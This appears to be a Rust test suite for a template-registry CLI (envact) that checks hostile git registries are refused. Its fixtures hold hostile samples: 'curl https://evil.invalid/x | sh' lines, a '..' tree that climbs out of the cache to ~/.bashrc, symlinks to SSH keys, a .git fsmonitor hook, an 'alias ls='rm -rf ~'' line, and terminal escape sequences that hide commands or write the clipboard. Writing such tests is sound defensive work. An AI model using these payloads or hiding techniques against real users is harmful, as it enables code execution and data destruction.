//! A hostile or compromised registry writes nothing and hides nothing
//! before the person trusts what it serves: a tree that climbs out of the
//! cache (built with `git hash-object --literally`, as no honest git would
//! make it), links, submodules, huge or crowded templates are refused before
//! a byte is written; the trust review shows every file of the template,
//! the diff of every changed one, and control characters as text, on a real
//! pseudo-terminal. The registry is a real `git daemon` on loopback.

use crate::support;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use support::registry::{git, write_object, write_tree, GitRegistry};
use support::{run, stderr, stdout, Sandbox};

const TEMPLATE: &str = "version = 1\nname = \"aws\"\n[vars]\nGREETING = \"hi\"\n\
[hook]\non-activate = \"sh ${ENVACT_MANIFEST%/*}/setup.sh\"\n";

struct Team {
    sb: Sandbox,
    registry: GitRegistry,
}

impl Team {
    /// A served registry holding a harmless `aws/` template, added as `team`.
    fn new() -> Team {
        let sb = Sandbox::new();
        let registry = GitRegistry::added(
            &sb,
            "team",
            &[
                ("aws/manifest.toml", TEMPLATE),
                ("aws/setup.sh", "echo setting up\n"),
            ],
        );
        Team { sb, registry }
    }

    fn envact(&self, args: &[&str]) -> Command {
        self.sb.envact(args)
    }

    /// The `.bashrc` the sandbox's user has, as it was written.
    fn bashrc(&self) -> String {
        std::fs::read_to_string(self.sb.home.join(".bashrc")).unwrap()
    }

    /// Every file under the template copies in the cache.
    fn copies(&self) -> Vec<PathBuf> {
        files_under(&self.sb.cache.join("envact/templates"))
    }

    /// The blob of `text` in the bare repository.
    fn blob(&self, text: &[u8]) -> String {
        write_object(&self.registry.bare, "blob", text)
    }
}

fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let path = entry.path();
            match entry.file_type() {
                Ok(t) if t.is_dir() => stack.push(path),
                _ => out.push(path),
            }
        }
    }
    out
}

/// A root tree whose `aws/` holds the manifest and a chain of `..`
/// directories that ends in `.bashrc`: extracted naively under
/// `~/.cache/envact/templates/COMMIT/.incoming-X/`, it lands on `~/.bashrc`.
fn climbing_tree(t: &Team) -> String {
    let bashrc = t.blob(b"curl https://evil.invalid/x | sh\n");
    let mut inner = write_tree(&t.registry.bare, &[("100644", ".bashrc", &bashrc)]);
    for _ in 0..4 {
        inner = write_tree(&t.registry.bare, &[("40000", "..", &inner)]);
    }
    let manifest = t.blob(TEMPLATE.as_bytes());
    let aws = write_tree(
        &t.registry.bare,
        &[
            ("100644", "manifest.toml", &manifest),
            ("40000", "..", &inner),
        ],
    );
    write_tree(&t.registry.bare, &[("40000", "aws", &aws)])
}

fn refused(out: &Output, wanted: &[&str]) -> String {
    let err = support::assert_fails(out, 3, wanted);
    assert!(
        err.contains("nothing of it was written"),
        "the refusal says nothing was written:\n{err}"
    );
    err
}

#[test]
fn a_tree_that_climbs_out_of_the_cache_is_refused_by_every_command_before_anything_is_written() {
    let t = Team::new();
    let before = t.bashrc();
    t.registry
        .commit_tree(&climbing_tree(&t), "a tree that climbs out");
    for args in [
        &["activate", "-r", "team/aws", "--", "true"][..],
        &["trust", "-r", "team/aws"],
        &["pull", "-r", "team/aws"],
        &["export", "-r", "team/aws", "--format", "env"],
        &["exec", "-r", "team/aws", "--", "true"],
        &["setup", "-r", "team/aws", "--yes"],
        &["clear", "-r", "team/aws"],
    ] {
        let out = run(t.envact(args));
        let err = refused(
            &out,
            &[
                "git found a malformed object in the registry",
                "contains '..'",
            ],
        );
        assert!(err.contains("team/aws"), "{args:?}: {err}");
        assert_eq!(t.bashrc(), before, "{args:?} wrote ~/.bashrc");
        assert!(t.copies().is_empty(), "{args:?}: {:?}", t.copies());
    }
    assert!(!t.sb.home.join(".cache/.bashrc").exists());
}

#[test]
fn a_mirror_that_already_holds_a_climbing_tree_is_still_refused_at_extraction() {
    let t = Team::new();
    let before = t.bashrc();
    let out = run(t.envact(&["pull", "-r", "team/aws"]));
    assert!(out.status.success(), "{}", stderr(&out));
    let commit = t
        .registry
        .commit_tree(&climbing_tree(&t), "a tree that climbs out");
    // As an envact from before object checks would have left it: the
    // hostile objects fetched into the mirror unchecked.
    let mirrors = std::fs::read_dir(t.sb.cache.join("envact/registries"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect::<Vec<_>>();
    assert_eq!(mirrors.len(), 1, "{mirrors:?}");
    git(
        &mirrors[0],
        &[
            "fetch",
            "--quiet",
            &t.registry.url(),
            "+refs/heads/*:refs/heads/*",
        ],
    );
    let copies_before = t.copies();

    let out = run(t.envact(&["pull", "-r", "team/aws"]));
    refused(
        &out,
        &[
            &format!("the template team/aws at {}", &commit[..12]),
            "`../../../../../.bashrc` leaves the template's directory",
        ],
    );
    assert_eq!(t.bashrc(), before);
    assert_eq!(t.copies(), copies_before, "the pinned copy is all there is");
}

#[test]
fn links_submodules_and_git_directories_in_a_template_are_refused_naming_them() {
    let t = Team::new();
    let work = &t.registry.work;
    std::os::unix::fs::symlink(t.sb.home.join(".ssh/id_ed25519"), work.join("aws/key")).unwrap();
    t.registry.commit(&[], "a link to the person's key");
    let out = run(t.envact(&["trust", "-r", "team/aws"]));
    refused(&out, &["`key` is a symbolic link"]);
    git(work, &["rm", "--quiet", "aws/key"]);
    t.registry.commit(&[], "no link");

    let head = git(work, &["rev-parse", "HEAD"]);
    // An empty directory is how git leaves a submodule it has not checked out.
    std::fs::create_dir(work.join("aws/vendor")).unwrap();
    git(
        work,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{head},aws/vendor"),
        ],
    );
    t.registry.commit(&[], "a submodule");
    let out = run(t.envact(&["pull", "-r", "team/aws"]));
    refused(&out, &["`vendor` is a submodule"]);

    // A `.git` directory inside the template, written literally.
    let config = t.blob(b"[core]\n\tfsmonitor = touch pwned\n");
    let dotgit = write_tree(&t.registry.bare, &[("100644", "config", &config)]);
    let manifest = t.blob(TEMPLATE.as_bytes());
    let aws = write_tree(
        &t.registry.bare,
        &[
            ("40000", ".git", &dotgit),
            ("100644", "manifest.toml", &manifest),
        ],
    );
    let root = write_tree(&t.registry.bare, &[("40000", "aws", &aws)]);
    t.registry.commit_tree(&root, "a .git directory");
    let out = run(t.envact(&["pull", "-r", "team/aws"]));
    refused(&out, &["malformed object", ".git"]);
    assert!(t.copies().is_empty(), "{:?}", t.copies());
}

#[test]
fn a_huge_or_crowded_template_is_refused_from_its_tree_before_any_content_is_read() {
    let t = Team::new();
    // 64 MiB of zeros: a few hundred kilobytes on the wire.
    let zeros = vec![0u8; 64 << 20];
    std::fs::write(t.registry.work.join("aws/zeros.bin"), &zeros).unwrap();
    t.registry.commit(&[], "a huge file");
    let out = run(t.envact(&["activate", "-r", "team/aws", "--", "true"]));
    refused(
        &out,
        &["`zeros.bin` is 64.0 MiB; a template's file may be at most 1.0 MiB"],
    );
    assert!(t.copies().is_empty(), "{:?}", t.copies());

    git(&t.registry.work, &["rm", "--quiet", "aws/zeros.bin"]);
    let many = t.registry.work.join("aws/many");
    std::fs::create_dir_all(&many).unwrap();
    for i in 0..5000 {
        std::fs::write(many.join(format!("f{i}")), i.to_string()).unwrap();
    }
    t.registry.commit(&[], "5000 small files");
    let out = run(t.envact(&["activate", "-r", "team/aws", "--", "true"]));
    refused(
        &out,
        &["it has more than 256 files, the most a template may have"],
    );
    assert!(t.copies().is_empty(), "{:?}", t.copies());
}

#[test]
fn a_plain_directory_registry_with_a_link_is_refused_too() {
    let sb = Sandbox::new();
    let dir = sb.root.join("templates/aws");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("manifest.toml"), TEMPLATE).unwrap();
    std::os::unix::fs::symlink(sb.home.join(".bashrc"), dir.join("setup.sh")).unwrap();
    let out = run(sb.envact([
        "registry",
        "add",
        "local",
        sb.root.join("templates").to_str().unwrap(),
    ]));
    assert!(out.status.success(), "{}", stderr(&out));
    let out = run(sb.envact(["trust", "-r", "local/aws"]));
    let err = refused(&out, &["`setup.sh` is a symbolic link"]);
    assert!(
        !err.contains("PS1"),
        "the link's target was not read: {err}"
    );
}

#[test]
fn the_review_shows_every_file_and_a_change_to_any_of_them_with_its_diff() {
    let t = Team::new();
    let out = run(t.envact(&["trust", "-r", "team/aws"]));
    assert!(out.status.success(), "{}", stderr(&out));
    let review = stderr(&out);
    assert!(
        review.contains("  file setup.sh of the template (a hook or profile may run it):\n    | echo setting up\n"),
        "{review}"
    );

    // A tag moved to a commit that changes only setup.sh.
    t.registry.commit(
        &[(
            "aws/setup.sh",
            "echo setting up\ncurl https://evil.invalid/x | sh\n",
        )],
        "only the script",
    );
    let out = run(t.envact(&["pull", "-r", "team/aws"]));
    assert!(out.status.success(), "{}", stderr(&out));
    let pulled = stdout(&out);
    assert!(
        pulled.contains("--- before/setup.sh\n+++ after/setup.sh\n")
            && pulled.contains("+curl https://evil.invalid/x | sh\n"),
        "pull shows the script's diff:\n{pulled}"
    );
    let out = run(t.envact(&["activate", "-r", "team/aws", "--", "true"]));
    support::assert_fails(&out, 1, &["has changed since you trusted it"]);
    let out = run(t.envact(&["trust", "-r", "team/aws"]));
    let review = stderr(&out);
    assert!(
        review.contains("has changed since you trusted it"),
        "{review}"
    );
    assert!(
        review.contains("--- before/setup.sh\n+++ after/setup.sh\n")
            && review.contains("+curl https://evil.invalid/x | sh\n"),
        "the review shows the script's diff:\n{review}"
    );
}

#[test]
fn on_a_terminal_the_review_shows_control_characters_instead_of_obeying_them() {
    let t = Team::new();
    // A carriage return and an erase-line sequence would leave only the
    // harmless tail on the screen; an OSC 52 would write the clipboard.
    let hostile = "version = 1\nname = \"aws\"\n\
        [secrets]\nbackend = \"env\"\nitem = \"dev\\u001b]52;c;ZXZpbA==\\u0007\"\n\
        [hook]\non-activate = \"curl https://evil.invalid/x | sh  # \\r\\u001b[2K| echo 'welcome to the team'\"\n\
        [profile]\ncommon = \"alias ls='rm -rf ~' # \\r\\u001b[2K\"\n";
    t.registry
        .commit(&[("aws/manifest.toml", hostile)], "hidden commands");
    let mut p = support::spawn_pty(t.envact(&["activate", "-r", "team/aws", "--", "true"]));
    let (before, _) = p.exp_regex("Run it\\?").unwrap();
    // What precedes the review is the fetch's spinner, envact's own.
    let shown = &before[before.find("The template team/aws").unwrap()..];
    assert!(
        shown.contains(
            "    | curl https://evil.invalid/x | sh  # \\r\\u{1b}[2K| echo 'welcome to the team'"
        ),
        "{shown:?}"
    );
    assert!(
        shown.contains("  [profile] common, sourced into your shell:\n")
            || shown.contains("  [profile] common, sourced into your shell:\r\n"),
        "{shown:?}"
    );
    assert!(
        shown.contains("alias ls='rm -rf ~' # \\r\\u{1b}[2K"),
        "{shown:?}"
    );
    assert!(
        shown.contains("item dev\\u{1b}]52;c;ZXZpbA==\\u{7}"),
        "{shown:?}"
    );
    for raw in ["\r\u{1b}[2K", "\u{1b}]52", "\u{7}"] {
        assert!(
            !shown.contains(raw),
            "{raw:?} reached the terminal: {shown:?}"
        );
    }
    p.send_line("").unwrap();
    p.exp_string("denied: nothing of team/aws ran").unwrap();
    p.exp_eof().unwrap();
}

#[test]
fn writes_into_a_project_never_follow_a_link_there() {
    let t = Team::new();
    let envact_dir = t.sb.project.join(".envact");
    let login = t.sb.home.join(".bash_login");
    std::fs::write(&login, "echo the person's own\n").unwrap();
    std::fs::create_dir_all(&envact_dir).unwrap();
    std::os::unix::fs::symlink(&login, envact_dir.join("manifest.toml")).unwrap();
    // `what` is named: the file (`it`) or the directory that is the link.
    let linked = |out: &Output, what: &str| {
        support::assert_fails(
            out,
            1,
            &[&format!(
                "{what} is a symbolic link, which envact does not write through"
            )],
        );
        assert_eq!(
            std::fs::read_to_string(&login).unwrap(),
            "echo the person's own\n"
        );
    };
    let out = run(t.envact(&["pull", "--copy", "team/aws", "--force"]));
    linked(&out, "manifest.toml: it");
    let out = run(t.envact(&["init", "--force"]));
    linked(&out, "manifest.toml: it");

    // The directory itself a link (to the home): refused too.
    std::fs::remove_dir_all(&envact_dir).unwrap();
    std::os::unix::fs::symlink(&t.sb.home, &envact_dir).unwrap();
    let out = run(t.envact(&["pull", "--copy", "team/aws"]));
    linked(&out, "./.envact");
    assert!(!t.sb.home.join("manifest.toml").exists());

    // An .envrc that links elsewhere is not appended to.
    std::fs::remove_file(&envact_dir).unwrap();
    std::os::unix::fs::symlink(&login, t.sb.project.join(".envrc")).unwrap();
    let out = run(t.envact(&["init", "--direnv"]));
    linked(&out, ".envrc: it");
}

#[test]
fn a_token_in_a_url_and_refs_git_would_misread_are_refused() {
    let t = Team::new();
    let token_url = "https://ghp_16C7e42F292c6912E7710c838347Ae178B4a@github.invalid/acme/envs.git";
    let out = run(t.envact(&["registry", "add", "leaky", token_url]));
    let err = support::assert_fails(&out, 1, &["looks like an access token"]);
    assert!(
        !err.contains("16C7e42F"),
        "the token is not repeated: {err}"
    );
    for bad in ["-x", "a:b", "main~1"] {
        let out = run(t.envact(&[
            "registry",
            "add",
            "other",
            &t.registry.url(),
            &format!("--ref={bad}"),
        ]));
        support::assert_fails(&out, 2, &["is a branch, tag or commit"]);
    }
    let listed = run(t.envact(&["registry", "list"]));
    assert!(!stdout(&listed).contains("leaky") && !stdout(&listed).contains("other"));
}

#[test]
fn a_registry_whose_head_dangles_still_serves_its_tags() {
    let t = Team::new();
    t.registry.tag("v1");
    git(
        &t.registry.bare,
        &["symbolic-ref", "HEAD", "refs/heads/gone"],
    );
    let out = run(t.envact(&["trust", "-r", "team/aws@v1"]));
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("trusted: team/aws may run as shown"),
        "{}",
        stderr(&out)
    );
}
